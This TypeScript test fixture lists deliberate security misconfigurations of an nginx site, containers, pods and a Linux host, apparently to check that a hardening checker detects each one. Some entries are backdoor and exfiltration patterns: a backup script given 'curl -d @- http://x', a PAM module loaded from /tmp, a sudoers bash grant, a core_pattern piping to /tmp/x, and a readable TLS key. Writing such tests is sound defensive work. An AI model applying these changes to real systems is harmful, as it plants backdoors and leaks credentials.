/** The fifth set: written after the checks were mended for the fourth, before any of it was tried. See careless-fourth.ts. */
import { execFileSync } from 'node:child_process';
import { appendFileSync, copyFileSync, renameSync } from 'node:fs';
import { join } from 'node:path';
import { add, drop, swap } from './careless-edits.ts';
import type { NamedConfiguration, NamedContainer } from './careless-fourth.ts';
import type { NamedHost } from './careless-fourth-host.ts';
import {
  before,
  type NamedObject,
  type NamedPod,
  type NamedPolicy,
  type NamedProcess,
} from './careless-fourth-places.ts';
import { type HostCopy, UNIT, edit } from './careless-host.ts';

const HEADERS = 'conf/security-headers.conf';

export const FIFTH_CONFIGURATIONS: readonly NamedConfiguration[] = [
  [
    'answers of others kept in /tmp',
    /proxy_cache_path/,
    'conf/http.conf',
    add('proxy_cache_path /tmp/c keys_zone=c:1m;'),
  ],
  [
    'a hundred million requests a connection',
    /keepalive_requests/,
    'conf/limits.conf',
    swap('keepalive_requests 1000', 'keepalive_requests 100000000'),
  ],
  [
    'an error in an error page has no page',
    /recursive_error_pages/,
    'conf/error-pages.conf',
    swap('recursive_error_pages on', 'recursive_error_pages off'),
  ],
  ['times compared loosely', /if_modified_since/, 'conf/server.conf', add('if_modified_since before;')],
  ['a suite with CBC', /AES128-SHA256/, 'conf/tls.conf', swap('ssl_ciphers ', 'ssl_ciphers ECDHE-RSA-AES128-SHA256:')],
  [
    'passwords of the header in the log',
    /authorization/,
    'conf/log-format.conf',
    swap('"request_id":', '"auth":"$http_authorization","request_id":'),
  ],
  ['programs sent as pages', /\bbin\b|text\/html/, 'conf/mime.types', add('types { text/html bin; }')],
  [
    'a second name with the whole site',
    /old\.example/,
    'nginx-tls.conf',
    swap('include conf/server-name.conf;', 'server_name qr.example.internal old.example;'),
  ],
  ['forms sent anywhere', /form-action/, HEADERS, swap("form-action 'none'", "form-action 'self' https:")],
  [
    'kinds of file guessed by the browser',
    /X-Content-Type-Options/,
    HEADERS,
    drop(/^add_header X-Content-Type-Options.*$/m),
  ],
];

export const FIFTH_CONTAINERS: readonly NamedContainer[] = [
  ['container: a setting of the loader', /LD_BIND_NOT/, ['--env', 'LD_BIND_NOT=1']],
  ['container: programs of /tmp first', /PATH/, ['--env', 'PATH=/tmp/bin:/usr/bin:/bin']],
  ['container: in the control group of the system', /cgroup/i, ['--cgroup-parent', '/system']],
  [
    'container: a folder of programs covered',
    /\/usr\/share/,
    ['--mount', 'type=bind,source=/tmp,destination=/usr/share,ro'],
  ],
  ['container: ended after a minute', /timeout/i, ['--timeout', '60']],
  ['container: an answer about its health may take ten minutes', /timeout/i, ['--health-timeout', '10m']],
];

export const FIFTH_PODS: readonly NamedPod[] = [
  [
    'pod: any image of that name on the node',
    /imagePullPolicy/,
    (_, container) => (container['imagePullPolicy'] = 'Never'),
  ],
  [
    'pod: may trace',
    /SYS_PTRACE/,
    (_, container) => (container.securityContext['capabilities'] = { drop: ['ALL'], add: ['SYS_PTRACE'] }),
  ],
  [
    'pod: 10 GB of scratch space',
    /size/,
    (spec) => (spec.volumes[0] = { name: 'tmp', emptyDir: { medium: 'Memory', sizeLimit: '10Gi' } }),
  ],
  ['pod: names as the node asks them', /dnsPolicy/, (spec) => (spec['dnsPolicy'] = 'Default')],
  ['pod: a claim of a device', /claims/i, (spec) => (spec['resourceClaims'] = [{ name: 'gpu' }])],
];

interface Spec {
  spec: Record<string, unknown>;
}
export const FIFTH_OBJECTS: readonly NamedObject[] = [
  ['service: a port of every node', /NodePort/, 'Service', ({ spec }: Spec) => (spec['type'] = 'NodePort')],
  [
    'network policy: of other pods',
    /podSelector/,
    'NetworkPolicy',
    ({ spec }: Spec) => (spec['podSelector'] = { matchLabels: { app: 'x' } }),
  ],
  [
    'disruption: all pods at once',
    /minAvailable/,
    'PodDisruptionBudget',
    ({ spec }: Spec) => (spec['minAvailable'] = 0),
  ],
] as unknown as readonly NamedObject[];

const file = (path: string, text: string, mode?: number) => (host: HostCopy) => host.write(path, text, mode);
const RSYSLOG = 'etc/rsyslog.d/40-qr-code-master.conf';
const SSHD = '.commands/sshd-T';

export const FIFTH_HOSTS: readonly NamedHost[] = [
  [
    'unit: variables of the manager passed on',
    /PassEnvironment/,
    file(`${UNIT}.d/9.conf`, '[Service]\nPassEnvironment=LD_PRELOAD\n'),
  ],
  ['unit: a program after the end', /ExecStopPost/, file(`${UNIT}.d/9.conf`, '[Service]\nExecStopPost=+/opt/x\n')],
  [
    'backup: a missed night stays missed',
    /Persistent/,
    file('etc/systemd/system/qr-backup.timer.d/9.conf', '[Timer]\nPersistent=no\n'),
  ],
  [
    'firewall: its unit does nothing',
    /qr-firewall/,
    file('etc/systemd/system/qr-firewall.service.d/9.conf', '[Service]\nExecStart=\nExecStart=/bin/true\n'),
  ],
  ['firewall: SSH from every office', /\b22\b/, edit('.commands/nft', 'ip saddr 10.0.9.0/24', 'ip saddr 10.0.0.0/8')],
  [
    'firewall: marked packets let in',
    /mark/,
    edit('.commands/nft', 'limit rate 10/second log', 'meta mark 0x1 accept\n\t\tlimit rate 10/second log'),
  ],
  [
    'firewall: packets passed on under the own address',
    /masquerade/,
    (host) =>
      host.change(
        '.commands/nft',
        (text) =>
          `${text}table inet own {\n\tchain post {\n\t\ttype nat hook postrouting priority srcnat; policy accept;\n\t\tmasquerade\n\t}\n}\n`,
      ),
  ],
  ['logs: a queue of one megabyte', /maxDiskSpace/, edit(RSYSLOG, 'maxDiskSpace="1g"', 'maxDiskSpace="1m"')],
  [
    'logs: new files open to everybody',
    /fileCreateMode/,
    edit(RSYSLOG, 'fileCreateMode="0640"', 'fileCreateMode="0644"'),
  ],
  ['logs: no list of hashes', /log-hashes/, edit('etc/logrotate.d/qr-code-master', /.*log-hashes.*\n/, '')],
  [
    'audit: changes of the configuration unseen',
    /qr-configuration/,
    edit('etc/audit/rules.d/qr-code-master.rules', /^-w \/etc\/qr-code-master.*\n/m, ''),
  ],
  ['ssh: a thousand sessions a connection', /maxsessions/i, edit(SSHD, /$/, 'maxsessions 1000\n')],
  [
    'kernel: memory of crashed programs given to a script',
    /core_pattern/,
    file('proc/sys/kernel/core_pattern', '|/tmp/x %p\n'),
  ],
  ['kernel: keys that command it', /sysrq/, file('proc/sys/kernel/sysrq', '1\n')],
  ['accounts: a system account with a shell', /daemon/, edit('etc/passwd', /$/, 'daemon:x:1:1::/usr/sbin:/bin/bash\n')],
  ['sudo: a shell by name', /bash/, file('etc/sudoers.d/x', 'li ALL=(ALL) /bin/bash\n')],
  ['login: a module of /tmp', /pam_x/, file('etc/pam.d/sshd', 'auth sufficient /tmp/pam_x.so\n')],
  [
    'files: the TLS key of the host readable',
    /key\.pem/,
    file('etc/qr-code-master/tls/key.pem', '-----BEGIN PRIVATE KEY-----\n', 0o644),
  ],
  [
    'engine: a registry without TLS',
    /insecure/,
    file('etc/containers/registries.conf', '[[registry]]\nlocation = "x"\ninsecure = true\n'),
  ],
  ['kernel: a module loaded at boot', /modules-load|nbd/, file('etc/modules-load.d/x.conf', 'nbd\n')],
  ['jobs: a unit of one’s own', /\/opt\/x/, file('etc/systemd/system/sync.service', '[Service]\nExecStart=/opt/x\n')],
  ['login: programs of /tmp first', /profile\.d/, file('etc/profile.d/x.sh', 'export PATH=/tmp:$PATH\n')],
  [
    'kit: the backup script changed',
    /backup\.sh/,
    edit('usr/local/lib/qr-code-master/emergency/backup.sh', /$/, 'curl -d @- http://x\n'),
  ],
  [
    'logs: the folder made for everybody at boot',
    /0777|tmpfiles/,
    file('etc/tmpfiles.d/qr-code-master.conf', 'd /var/log/qr-code-master 0777 root root -\n'),
  ],
];

export const FIFTH_PROCESSES: readonly NamedProcess[] = [
  [
    'site: the compressed entry changed',
    /index\.html\.br/,
    {
      after: (_, kit) => {
        const page = join(kit.siteDir, 'index.html.br');
        copyFileSync(page, '/tmp/careless-br');
        appendFileSync(page, 'x');
        return () => renameSync('/tmp/careless-br', page);
      },
    },
  ],
  [
    'files: the key readable for one more by a list of rights',
    /ACL/,
    {
      after: (_, __, certificates) => {
        execFileSync('setfacl', ['-m', 'u:65534:r', certificates.path('key.pem')]);
        return () => execFileSync('setfacl', ['-b', certificates.path('key.pem')]);
      },
    },
  ],
  [
    'process: a file of the system held open',
    /machine-id/,
    before('sh', '-c', 'exec 8</etc/machine-id; exec "$@"', 'sh'),
  ],
  ['process: too few files for its connections', /open files/, before('prlimit', '--nofile=256')],
  [
    'environment: programs of /tmp first',
    /PATH/,
    { options: () => ({ environment: { PATH: `/tmp:${process.env['PATH'] ?? ''}` } }) },
  ],
];

export const FIFTH_POLICIES: readonly NamedPolicy[] = [
  [
    'policy: a notice of ten thousand letters',
    /banner/,
    (text: string) => text.replace('"banner": null', `"banner": "${'a'.repeat(10_000)}"`),
  ],
  [
    'policy: names neither strict nor not',
    /strictNames/,
    (text: string) => text.replace('"strictNames": false', '"strictNames": "no"'),
  ],
];
